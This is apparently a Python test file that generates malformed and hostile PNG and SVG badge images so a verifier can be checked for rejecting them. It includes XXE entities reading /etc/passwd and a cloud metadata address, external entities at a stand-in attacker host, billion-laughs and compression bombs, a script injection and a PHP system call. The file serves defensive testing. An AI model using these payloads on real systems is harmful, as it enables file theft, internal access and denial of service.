"""Classes 12 and 13: badges inside images, and images that are more than images."""

from __future__ import annotations

import html
import struct
import zlib

from tests.attacks.making import older
from tests.attacks.making.cases import COMMON, SCHOOL_HOST, Expect, Group, invalid, unreadable
from tests.attacks.making.issuers import MALLORY, MALLORYS, World, dumps, genuine, profile, token

_SIGNATURE = b"\x89PNG\r\n\x1a\n"
OB3, OB2 = b"openbadgecredential", b"openbadges"


def chunk(kind: bytes, content: bytes) -> bytes:
    """Return one chunk of a PNG."""
    return struct.pack(">I", len(content)) + kind + content + _crc(kind, content)


def _crc(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", zlib.crc32(kind + content))


def header(width: int = 1, height: int = 1) -> bytes:
    """Return the header chunk of a grey image."""
    return chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))


PIXELS = chunk(b"IDAT", zlib.compress(b"\0\0"))
END = chunk(b"IEND", b"")


def itxt(text: bytes, keyword: bytes = OB3, *, middle: bytes = b"\0\0\0\0\0") -> bytes:
    """Return an iTXt chunk; `middle` is what stands between keyword and text."""
    return chunk(b"iTXt", keyword + middle + text)


def png(*chunks: bytes) -> bytes:
    """Return a PNG with chunks between header and pixels."""
    return _SIGNATURE + header() + b"".join(chunks) + PIXELS + END


GOOD = dumps(genuine())
BOTH_WORLDS = World(COMMON.answers | older.academy().answers)
EVIL = dumps(genuine() | {"issuer": profile(MALLORY)})


def in_png() -> Group:
    """Class 12."""
    group = Group("12-png", 46, "PNG with a badge", kind="png")
    _add_ambiguous(group)
    _add_damaged(group)
    _add_texts(group)
    return group


def _add_ambiguous(group: Group) -> None:
    """Add images of which software reads one badge or another."""
    good = itxt(GOOD)
    plain = chunk(b"tEXt", OB3 + b"\0" + GOOD)
    deflated = chunk(b"zTXt", OB3 + b"\0\0" + zlib.compress(GOOD))
    for name, mutation, image in (
        ("same-twice", "the same badge twice", png(good, good)),
        ("genuine-first", "the genuine badge before another", png(good, itxt(EVIL))),
        ("genuine-last", "the genuine badge after another", png(itxt(EVIL), good)),
        ("text-before", "a tEXt twin before it", png(chunk(b"tEXt", OB3 + b"\0" + EVIL), good)),
        ("text-after", "a tEXt twin after it", png(good, chunk(b"tEXt", OB3 + b"\0" + EVIL))),
        ("compressed-twin", "a zTXt twin after it", png(
            good, chunk(b"zTXt", OB3 + b"\0\0" + zlib.compress(EVIL)))),
        ("text-alone", "the badge in a tEXt chunk", png(plain)),
        ("compressed-text-alone", "the badge in a zTXt chunk", png(deflated)),
        ("capitals", "the keyword in capitals", png(itxt(GOOD, OB3.upper()))),
        ("space-behind", "a space behind the keyword", png(itxt(GOOD, OB3 + b" "))),
        ("space-before", "a space before the keyword", png(itxt(GOOD, b" " + OB3))),
        ("capitals-twin", "a twin under the keyword in capitals", png(good, itxt(EVIL, OB3.upper()))),
        ("behind-pixels", "a second one behind the pixels",
         _SIGNATURE + header() + good + PIXELS + itxt(EVIL) + END),
        ("two-older", "two badges of Open Badges 2.0", png(
            itxt(dumps(older.hosted()), OB2), itxt(dumps(older.hosted(id="https://x.example/")), OB2))),
        ("older-text-twin", "a tEXt twin of a badge of Open Badges 2.0", png(
            itxt(dumps(older.hosted()), OB2), chunk(b"tEXt", OB2 + b"\0https://mallory.example/1"))),
        ("second-unreadable", "a second badge that cannot be read", png(good, itxt(b"{", OB2))),
        ("second-a-word", "a second badge that is a word", png(good, itxt(b"trust me", OB2))),
    ):  # fmt: skip
        group.add(name, mutation, unreadable("ambiguous_image"), image)
    forged = older.hosted(narrative="Mention très bien.")
    group.add(
        "second-forged",
        "a genuine badge, and beside it an edited one of Open Badges 2.0",
        # The axes are those of the first; the verdict is that of the worse.
        Expect("red", "valid", "active", "issuer_not_known"),
        png(itxt(GOOD), itxt(dumps(forged), OB2)),
        world=BOTH_WORLDS,
        hosts=(SCHOOL_HOST, "status.example", "academy.example"),
    )
    group.add(
        "first-forged",
        "an edited badge, and beside it a genuine one of Open Badges 2.0",
        invalid("bad_signature"),
        png(itxt(EVIL.replace(b"mallory.example", b"school.example").replace(b"Gestes", b"GESTES")),
            itxt(dumps(older.hosted()), OB2)),
        world=BOTH_WORLDS,
        hosts=(SCHOOL_HOST, "academy.example"),
    )  # fmt: skip
    group.add(
        "edited",
        "an edited badge",
        invalid("bad_signature"),
        png(itxt(GOOD.replace(b"Gestes", b"GESTES"))),
        hosts=(SCHOOL_HOST,),
    )


def _add_damaged(group: Group) -> None:
    """Add files that are not one sound PNG."""
    good = itxt(GOOD)
    image = png(good)
    bad_crc = bytearray(image)
    bad_crc[len(_SIGNATURE + header()) + 40] ^= 1
    many = [chunk(b"tEXt", b"Comment\0x")] * 70
    for name, mutation, code, data in (
        ("crc", "one bit of the badge's chunk changed", "bad_image", bytes(bad_crc)),
        ("crc-of-header", "a wrong checksum of the header", "bad_image",
         _SIGNATURE + header()[:-1] + b"\0" + good + PIXELS + END),
        ("truncated", "the last chunk missing", "bad_image", image[: -len(END)]),
        ("cut", "the last byte missing", "bad_image", image[:-1]),
        ("signature-alone", "the signature of a PNG alone", "bad_image", _SIGNATURE),
        ("length-beyond", "a chunk longer than the file", "bad_image",
         _SIGNATURE + header() + struct.pack(">I", 0xFFFFFFFF) + b"iTXt" + GOOD),
        ("length-negative", "a chunk whose length is negative", "bad_image",
         _SIGNATURE + header() + struct.pack(">I", 0x80000000) + b"iTXt" + GOOD + PIXELS + END),
        ("no-header", "no header chunk", "bad_image", _SIGNATURE + good + PIXELS + END),
        ("late-header", "the header behind the badge", "bad_image",
         _SIGNATURE + good + header() + PIXELS + END),
        ("two-headers", "two headers", "bad_image", png(header(), good)),
        ("no-pixels", "no pixels", "bad_image", _SIGNATURE + header() + good + END),
        ("no-width", "an image without width", "bad_image",
         _SIGNATURE + header(0) + good + PIXELS + END),
        ("no-height", "an image without height", "bad_image",
         _SIGNATURE + header(1, 0) + good + PIXELS + END),
        ("short-header", "a header that is too short", "bad_image",
         _SIGNATURE + chunk(b"IHDR", b"\0" * 12) + good + PIXELS + END),
        ("behind-end", "a badge behind the end", "bad_image",
         _SIGNATURE + header() + PIXELS + END + good),
        ("bytes-behind", "five bytes behind the end", "bad_image", image + b"trust"),
        ("html-behind", "a web page behind the end", "bad_image",
         image + b"<script>alert(1)</script>"),
        ("zip-behind", "a ZIP behind the end", "bad_image", image + b"PK\x05\x06" + bytes(18)),
        ("two-images", "a second image behind the first", "bad_image", image + png(itxt(EVIL))),
        ("many-chunks", "70 comments", "bad_image", png(*many, good)),
        ("too-large", "2 MB of pixels too many", "too_large",
         png(good, chunk(b"IDAT", bytes(2_097_152)))),
    ):  # fmt: skip
        group.add(f"damaged-{name}", mutation, unreadable(code), data)
    for name, mutation, beginning, code in (
        ("jpeg", "a JPEG under the name of a PNG", b"\xff\xd8\xff\xe0", "file_type_unsupported"),
        ("gif", "a GIF under the name of a PNG", b"GIF89a", "file_type_unsupported"),
        ("webp", "a WebP under the name of a PNG", b"RIFF\x24\0\0\0WEBP", "file_type_unsupported"),
        ("zip", "a ZIP under the name of a PNG", b"PK\x03\x04", "file_type_unsupported"),
        ("html", "a web page under the name of a PNG", b"<!doctype html>", "file_type_unsupported"),
        ("tiff", "a TIFF under the name of a PNG", b"II*\0\x08\0\0\0", "not_a_badge"),
        ("psd", "a drawing of Photoshop under the name of a PNG", b"8BPS\0\x01\xff", "bad_encoding"),
        ("fits", "a FITS under the name of a PNG", b"SIMPLE  =                    T", "not_a_badge"),
        ("jpeg-2000", "a JPEG 2000 under the name of a PNG", b"\0\0\0\x0cjP  \r\n\x87\n", "bad_encoding"),
        ("byte-before", "a byte before the signature", b"\0" + image, "bad_encoding"),
    ):  # fmt: skip
        group.add(f"not-png-{name}", mutation, unreadable(code), beginning + GOOD)


def _add_texts(group: Group) -> None:
    """Add texts that are too much, or none."""
    bomb = zlib.compress(b" " * 60_000_000, 9)
    for name, mutation, code, image in (
        ("bomb", "a compressed text of 60 MB", "bad_image",
         png(itxt(bomb, middle=b"\0\1\0\0\0"))),
        ("unknown-compression", "a compression that PNG has not", "bad_image",
         png(itxt(zlib.compress(GOOD), middle=b"\0\1\1\0\0"))),
        ("compression-flag", "a flag of compression that is neither", "bad_image",
         png(itxt(GOOD, middle=b"\0\2\0\0\0"))),
        ("not-deflated", "a compressed text that is none", "bad_image",
         png(itxt(GOOD, middle=b"\0\1\0\0\0"))),
        ("behind-stream", "bytes behind the compressed text", "bad_image",
         png(itxt(zlib.compress(GOOD) + b"x", middle=b"\0\1\0\0\0"))),
        ("half-stream", "half of a compressed text", "bad_image",
         png(itxt(zlib.compress(GOOD)[:200], middle=b"\0\1\0\0\0"))),
        ("nul", "a NUL behind the badge", "bad_image", png(itxt(GOOD + b"\0"))),
        ("empty", "an empty text", "bad_image", png(itxt(b""))),
        ("latin-1", "a text in Latin-1", "bad_image", png(itxt(GOOD.decode().encode("latin-1")))),
        ("too-long", "a text of 300 kB", "bad_image", png(itxt(GOOD + b" " * 300_000))),
        ("no-fields", "a chunk that ends behind its keyword", "bad_image", png(chunk(b"iTXt", OB3))),
        ("word", "a word in place of a badge", "not_a_badge", png(itxt(b"trust me"))),
        ("address", "an address in the place of Open Badges 3.0", "not_a_badge",
         png(itxt(b"https://mallory.example/1"))),
        ("array", "a list of badges", "not_a_badge", png(itxt(b"[" + GOOD + b"]"))),
        ("duplicate", "a badge with two issuers", "duplicate_key",
         png(itxt(b'{"issuer":1,' + GOOD[1:]))),
        ("spaces", "spaces alone", "empty", png(itxt(b"   "))),
        ("none", "no badge at all", "not_baked", png()),
        ("other-keyword", "a badge under another keyword", "not_baked", png(itxt(GOOD, b"Comment"))),
        ("private-chunk", "a badge in a chunk of one's own", "not_baked",
         png(chunk(b"oBdg", OB3 + b"\0" + GOOD))),
        ("exif", "a badge in the metadata of a camera", "not_baked", png(chunk(b"eXIf", GOOD))),
    ):  # fmt: skip
        group.add(f"text-{name}", mutation, unreadable(code), image)


# --- SVG

_NS3, _NS2 = "https://purl.imsglobal.org/ob/v3p0", "http://openbadges.org"
_HEAD = f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="{_NS3}">'
_SHAPE = "<circle r='9'/>"


def svg(*inside: str, head: str = _HEAD, before: str = "") -> str:
    """Return a drawing."""
    return f"{before}{head}{''.join(inside)}{_SHAPE}</svg>"


def cdata(text: bytes, element: str = "openbadges:credential", attributes: str = "") -> str:
    """Return a badge as an element with a CDATA section."""
    return f"<{element}{attributes}><![CDATA[{text.decode()}]]></{element}>"


def verify(text: str, element: str = "openbadges:credential") -> str:
    """Return a badge as an element with the attribute `verify`."""
    return f'<{element} verify="{text}"/>'


def in_svg() -> Group:
    """Class 13."""
    group = Group("13-svg", 60, "SVG with a badge", kind="svg")
    good = cdata(GOOD)
    lol = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10))
    for name, mutation, code, data in (
        ("two", "two badges", "ambiguous_image", svg(good, cdata(EVIL))),
        ("same-twice", "the same badge twice", "ambiguous_image", svg(good, good)),
        ("attribute-and-content", "one badge in the attribute and one in the content",
         "ambiguous_image", svg(cdata(GOOD, attributes=f' verify="{token()}"'))),
        ("verify-twin", "a second badge in an attribute", "ambiguous_image", svg(good, verify(token()))),
        ("nested", "a badge inside of a badge", "ambiguous_image",
         svg(f"<openbadges:credential>{cdata(EVIL)}</openbadges:credential>")),
        ("deep", "a badge deep in the drawing", "ambiguous_image", svg(f"<g>{good}</g>")),
        ("in-defs", "a second badge in the definitions", "ambiguous_image",
         svg(good, f"<defs>{cdata(EVIL)}</defs>")),
        ("capitals", "the element in capitals", "ambiguous_image",
         svg(cdata(GOOD, "openbadges:CREDENTIAL"))),
        ("verify-capitals", "the attribute in capitals", "ambiguous_image",
         svg(f'<openbadges:credential VERIFY="{token()}"/>')),
        ("verify-prefixed", "the attribute with a prefix", "ambiguous_image",
         svg(f'<openbadges:credential openbadges:verify="{token()}"/>')),
        ("other-namespace", "the right prefix of another namespace", "ambiguous_image",
         svg(good, head=_HEAD.replace(_NS3, "https://mallory.example/ns"))),
        ("older-namespace", "the element of 3.0 in the namespace of 2.0", "ambiguous_image",
         svg(good, head=_HEAD.replace(_NS3, _NS2))),
        ("namespace-slash", "the namespace with a slash more", "ambiguous_image",
         svg(good, head=_HEAD.replace(_NS3, _NS3 + "/"))),
        ("comment-inside", "a comment inside of the badge", "ambiguous_image",
         svg(f"<openbadges:credential>{html.escape(GOOD.decode())}<!-- x --></openbadges:credential>")),
        ("element-inside", "an element inside of the badge", "ambiguous_image",
         svg(f"<openbadges:credential><b/>{html.escape(GOOD.decode())}</openbadges:credential>")),
        ("two-sections", "the badge in two CDATA sections", "ambiguous_image",
         svg(f"<openbadges:credential><![CDATA[{GOOD[:200].decode()}]]>"
             f"<![CDATA[{GOOD[200:].decode()}]]></openbadges:credential>")),
        ("text-before-section", "a letter before the badge", "not_a_badge",
         svg(f"<openbadges:credential>x{good[24:-25]}</openbadges:credential>")),
        ("prefix-redeclared", "the prefix declared anew on the element", "ambiguous_image",
         svg(cdata(GOOD, attributes=' xmlns:openbadges="https://mallory.example/ns"'))),
    ):  # fmt: skip
        group.add(name, mutation, unreadable(code), data)
    for name, mutation, before in (
        ("doctype", "a document type", "<!DOCTYPE svg>"),
        ("doctype-public", "the document type of SVG 1.1",
         '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'),
        ("xxe-file", "an entity of a file", '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        ("xxe-http", "an entity at an address", '<!DOCTYPE svg [<!ENTITY x SYSTEM "http://169.254.169.254/">]>'),
        ("parameter-entity", "a parameter entity at an address",
         '<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://mallory.example/x.dtd"> %x;]>'),
        ("external-dtd", "a document type at an address", '<!DOCTYPE svg SYSTEM "https://mallory.example/x.dtd">'),
        ("laughs", "a billion laughs", f"<!DOCTYPE svg [{lol}]>"),
        ("quadratic", "one entity of 50 kB", f'<!DOCTYPE svg [<!ENTITY x "{"x" * 50_000}">]>'),
        ("attribute-default", "an attribute by default",
         '<!DOCTYPE svg [<!ATTLIST circle onload CDATA "alert(1)">]>'),
        ("stylesheet", "a style sheet instruction",
         '<?xml-stylesheet href="https://mallory.example/x.xsl" type="text/xsl"?>'),
        ("php", "an instruction of PHP", "<?php system('id') ?>"),
        ("encoding-utf-7", "UTF-7", '<?xml version="1.0" encoding="UTF-7"?>'),
        ("encoding-latin-1", "Latin-1 in its declaration", '<?xml version="1.0" encoding="ISO-8859-1"?>'),
        ("encoding-utf-16", "UTF-16 in its declaration", '<?xml version="1.0" encoding="UTF-16"?>'),
    ):  # fmt: skip
        inside = "<text>&x;</text>" if "xxe" in name else ""
        group.add(
            f"xml-{name}",
            mutation,
            unreadable("unsafe_image"),
            svg(good, inside, before=before),
        )
    for name, mutation, code, data in (
        ("depth", "100 groups deep", "unsafe_image", svg("<g>" * 100, good, "</g>" * 100)),
        ("depth-100000", "100,000 groups deep", "unsafe_image", svg(good, "<g>" * 100_000)),
        ("nodes", "6,000 shapes", "unsafe_image", svg(good, "<g/>" * 6_000)),
        ("attributes", "6,000 attributes", "unsafe_image",
         svg(good, "<g " + " ".join(f"a{n}=''" for n in range(6_000)) + "/>")),
        ("too-large", "600 kB", "too_large", svg(good, f"<!--{'x' * 600_000}-->")),
        ("entity-unknown", "an entity that nobody defined", "bad_image", svg(good, "<text>&x;</text>")),
        ("unclosed", "an element that never ends", "bad_image", svg(good, "<g>")),
        ("crossed", "elements that cross", "bad_image", svg(good, "<g><a></g></a>")),
        ("duplicate-attribute", "an attribute twice", "bad_image", svg(good, "<g id='a' id='b'/>")),
        ("undeclared-prefix", "a prefix that nobody declared", "bad_image", svg(good, "<x:g/>")),
        ("undeclared-openbadges", "the prefix of badges, not declared", "bad_image",
         svg(good, head='<svg xmlns="http://www.w3.org/2000/svg">')),
        ("garbage-behind", "a web page behind the drawing", "bad_image", svg(good) + "<p>x</p>"),
        ("nul", "a NUL in the drawing", "bad_image", svg(good, "\0")),
        ("no-namespace", "a drawing without namespace", "bad_image",
         svg(good, head=f'<svg xmlns:openbadges="{_NS3}">')),
        ("other-root", "a drawing of another namespace", "bad_image",
         svg(good, head=_HEAD.replace("http://www.w3.org/2000/svg", "urn:x:svg"))),
        ("none", "no badge at all", "not_baked", svg()),
        ("in-metadata", "a badge in the metadata", "not_baked", svg(f"<metadata>{html.escape(GOOD.decode())}</metadata>")),
        ("in-comment", "a badge in a comment", "not_baked", svg(f"<!-- {GOOD.decode()} -->")),
        ("in-script", "a badge in a script", "not_baked", svg(f"<script><![CDATA[{GOOD.decode()}]]></script>")),
        ("empty-element", "an empty badge", "bad_image", svg("<openbadges:credential/>")),
        ("word", "a word in place of a badge", "not_a_badge", svg(cdata(b"trust me"))),
        ("duplicate-key", "a badge with two issuers", "duplicate_key", svg(cdata(b'{"issuer":1,' + GOOD[1:]))),
        ("verify-word", "a word in the attribute", "not_a_badge", svg(verify("trust me"))),
        ("html-page", "a web page with a drawing inside", "file_type_unsupported",
         f"<!doctype html><p>{svg(good)}"),
        ("xml-other", "XML of something else", "file_type_unsupported", f"<x>{good}</x>"),
    ):  # fmt: skip
        group.add(f"form-{name}", mutation, unreadable(code), data)
    for encoding in ("utf-16", "utf-32", "latin-1"):
        group.add(
            f"bytes-{encoding}",
            f"a drawing in {encoding}",
            unreadable("unsafe_image" if encoding == "latin-1" else "bad_encoding"),
            svg(good).encode(encoding),
        )
    edited = GOOD.replace(b"Gestes", b"GESTES")
    for name, mutation, inside in (
        ("edited", "an edited badge", cdata(edited)),
        ("edited-escaped", "an edited badge without CDATA section",
         f"<openbadges:credential>{html.escape(edited.decode())}</openbadges:credential>"),
        ("entity-letters", "letters changed by character references",
         f"<openbadges:credential>{html.escape(GOOD.decode()).replace('Gestes', '&#71;&#69;stes')}"
         "</openbadges:credential>"),
        ("verify-edited", "a token with another key's signature in the attribute",
         verify(token(key=MALLORYS))),
    ):  # fmt: skip
        group.add(name, mutation, invalid("bad_signature"), svg(inside), hosts=(SCHOOL_HOST,))
    return group
